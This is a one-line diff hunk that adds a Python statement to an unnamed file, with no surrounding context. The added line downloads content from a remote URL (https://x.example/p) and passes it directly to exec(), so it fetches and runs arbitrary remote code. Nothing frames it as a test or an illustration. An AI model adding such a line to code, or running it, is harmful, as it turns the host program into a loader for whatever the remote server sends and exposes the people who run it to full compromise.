@@ -1,0 +1,1 @@
+exec(urllib.request.urlopen('https://x.example/p').read())
